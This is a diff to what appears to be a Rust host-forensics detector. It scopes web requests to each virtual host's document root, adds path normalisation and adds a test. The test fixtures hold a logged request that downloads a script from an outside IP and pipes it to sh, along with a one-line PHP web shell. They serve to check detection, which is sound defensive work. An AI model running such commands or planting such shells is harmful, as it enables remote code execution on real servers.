@@ -53,16 +53,64 @@ fn quote(l: &ServiceLogLine, what: String) -> String {
     format!("{}: {what}", l.location())
 }
 
-/// Scripts in web roots whose path ends with the request's path.
-fn scripts_at<'a>(ctx: &'a Context, request: &[u8]) -> Vec<&'a FileRecord> {
+/// The scripts a request path names, for requests logged in these lines' logs: in each log's own
+/// document roots where the web servers' configuration says them (the root joined with the path,
+/// `.` and `..` resolved as the server does), else — a log no configuration names — in every web root,
+/// by the path's end (review of train 3, item 1: a request one virtual host logged names no page of
+/// another).
+fn scripts_at<'a, T>(
+    ctx: &'a Context,
+    request: &[u8],
+    hits: &[(&ServiceLogLine, T)],
+) -> Vec<&'a FileRecord> {
     if request.len() < 2 || request.ends_with(b"/") {
         return Vec::new();
     }
+    let Some(normal) = normalized(request) else {
+        return Vec::new();
+    };
+    let mut logs: Vec<&[u8]> = hits.iter().map(|(l, _)| &*l.path).collect();
+    logs.sort_unstable();
+    logs.dedup();
+    let mut pages: Vec<Vec<u8>> = Vec::new();
+    let mut anywhere = false;
+    for log in logs {
+        match ctx.model.web_sites.roots_of(log) {
+            Some(roots) => pages.extend(roots.iter().map(|r| [*r, normal.as_slice()].concat())),
+            None => anywhere = true,
+        }
+    }
     ctx.model
         .regular_files()
-        .filter(|f| ctx.iocs.paths().is(PathClass::WebRoot, f.path.as_bytes()))
-        .filter(|f| f.path.as_bytes().ends_with(request))
+        .filter(|f| {
+            let path = f.path.as_bytes();
+            pages.iter().any(|p| p.as_slice() == path)
+                || (anywhere
+                    && ctx.iocs.paths().is(PathClass::WebRoot, path)
+                    && path.ends_with(request))
+        })
         .collect()
+}
+
+/// A request path with `.` and `..` segments resolved and repeated `/` collapsed (`/a/../b.php` is
+/// `/b.php`), as a web server maps it onto its root; `None` for one that climbs above it.
+fn normalized(request: &[u8]) -> Option<Vec<u8>> {
+    let mut parts: Vec<&[u8]> = Vec::new();
+    for seg in request.split(|b| *b == b'/') {
+        match seg {
+            b"" | b"." => {}
+            b".." => {
+                parts.pop()?;
+            }
+            s => parts.push(s),
+        }
+    }
+    let mut out = Vec::new();
+    for p in parts {
+        out.push(b'/');
+        out.extend_from_slice(p);
+    }
+    Some(out)
 }
 
 /// The web requests a reading of their target keeps (`read`: [`request_command`], [`request_injection`]),
@@ -175,7 +223,7 @@ fn web_commands(ctx: &Context) -> Vec<Finding> {
         if hits.is_empty() {
             continue;
         }
-        let files: Vec<(&FileRecord, Option<(bool, String)>)> = scripts_at(ctx, &script)
+        let files: Vec<(&FileRecord, Option<(bool, String)>)> = scripts_at(ctx, &script, &hits)
             .into_iter()
             .map(|f| {
                 let why = judge.intrusions(ctx, f).or_else(|| {
@@ -255,7 +303,7 @@ fn web_injections(ctx: &Context) -> Vec<Finding> {
                 ),
             ));
         }
-        for file in scripts_at(ctx, &page) {
+        for file in scripts_at(ctx, &page, &hits) {
             f = f.subject_as(file_subject(file), Role::Context).evidence(format!(
                 "the application's page on disk: {} (its bug is its owner's to fix; nothing to remove)",
                 file.path.escaped()
@@ -919,5 +967,61 @@ mod tests {
             .evidence
             .iter()
             .any(|e| e.contains("Redis's account: the server wrote it")));
+    }
+
+    /// Review of train 3, item 1 ("one docroot"): with the web server's configuration stored, a request
+    /// a virtual host logged names pages of that host's root only. The shop's log shows a command sent
+    /// to `/cmd.php` (200); the shop has no such page, the blog (another host, another log) has a web
+    /// shell of that name: the shop's request never ran it, so the finding is low with no subject. A
+    /// request in the blog's own log reaches it (high); with no configuration, every web root's page of
+    /// that name counts, as before.
+    #[test]
+    fn a_request_names_pages_of_its_own_hosts_root_only() {
+        let iocs = Indicators::builtin();
+        let hit: &[u8] = b"10.0.0.4 - - [10/Jun/2025:11:02:00 +0000] \"GET /index.php HTTP/1.1\" 200 5120\n\
+198.51.100.7 - - [10/Jun/2025:11:03:00 +0000] \"GET /cmd.php?c=curl+-fsSL+http://198.51.100.7/k.sh%7Csh HTTP/1.1\" 200 0\n";
+        let site = b"server { server_name shop.example; root /var/www/shop; access_log /var/log/nginx/shop.access.log; }
+server { server_name blog.example; root /var/www/blog/; access_log /var/log/nginx/blog.access.log; }
+";
+        let model = |log: &[u8], configured: bool| {
+            let mut files = vec![
+                fixture::file(log, Some(hit)),
+                fixture::file(
+                    b"/var/www/shop/index.php",
+                    Some(b"<?php\nrequire 'app.php';\n"),
+                ),
+                fixture::file(
+                    b"/var/www/blog/cmd.php",
+                    Some(b"<?php system($_GET['c']); ?>\n"),
+                ),
+            ];
+            if configured {
+                let (mut f, c) = fixture::file(b"/etc/nginx/sites-enabled/sites", Some(site));
+                f.category = "web-config".into();
+                files.push((f, c));
+            }
+            fixture::model(files, vec![])
+        };
+        let ent = |m: &crate::model::HostModel| {
+            detect(&Context {
+                model: m,
+                iocs: &iocs,
+            })
+            .into_iter()
+            .find(|f| f.rule == "MT-ENT-001")
+        };
+        let shop = ent(&model(b"/var/log/nginx/shop.access.log.1", true)).unwrap();
+        assert_eq!(shop.severity, Severity::Low, "{shop:?}");
+        assert!(shop.subjects.is_empty(), "{shop:?}");
+        let blog = ent(&model(b"/var/log/nginx/blog.access.log", true)).unwrap();
+        assert_eq!(blog.severity, Severity::High, "{blog:?}");
+        assert!(
+            blog.evidence
+                .iter()
+                .any(|e| e.contains("/var/www/blog/cmd.php")),
+            "{blog:?}"
+        );
+        let unknown = ent(&model(b"/var/log/nginx/shop.access.log", false)).unwrap();
+        assert_eq!(unknown.severity, Severity::High, "{unknown:?}");
     }
 }
